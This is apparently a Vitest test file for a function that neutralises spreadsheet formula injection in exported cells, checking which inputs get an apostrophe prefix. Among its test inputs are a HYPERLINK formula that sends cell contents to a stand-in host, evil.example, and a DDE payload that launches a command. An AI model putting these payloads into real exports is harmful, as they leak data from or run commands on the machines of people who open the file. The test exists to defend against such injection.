import { describe, expect, it } from "vitest";
import { spreadsheetSafe } from "@/lib/spreadsheet/spreadsheet-cells";

describe("a cell of an export", () => {
  it("turns text that a spreadsheet would read as a formula into plain text", () => {
    for (const formula of [
      '=HYPERLINK("https://evil.example/?d="&A1, "Klicka här")',
      "+46 70 123 45 67",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(A1:A9)",
      "=1+1",
      "  =1+1",
      "\t=1+1",
      "\r\n=1+1",
      "\u0000=1",
      "＝1+1",
      "＠SUM(A1)",
      "\tnothing after",
    ]) {
      expect(spreadsheetSafe(formula)).toBe(`'${formula}`);
    }
  });

  it("leaves every other text as it is", () => {
    for (const text of [
      "Amal Haddad",
      "Åsa Öberg",
      "",
      " ",
      "Jurist (LL.M.)",
      "a=b",
      "1+1",
      "'=already text",
      "e-post",
      "Uppsala län",
      "سلام",
    ]) {
      expect(spreadsheetSafe(text)).toBe(text);
    }
  });

  it("writes numbers as numbers, and nothing for an empty value", () => {
    expect(spreadsheetSafe(-5)).toBe("-5");
    expect(spreadsheetSafe(2014)).toBe("2014");
    expect(spreadsheetSafe(1.5)).toBe("1.5");
    expect(spreadsheetSafe(Number.NaN)).toBe("");
    expect(spreadsheetSafe(null)).toBe("");
    expect(spreadsheetSafe(undefined)).toBe("");
  });
});
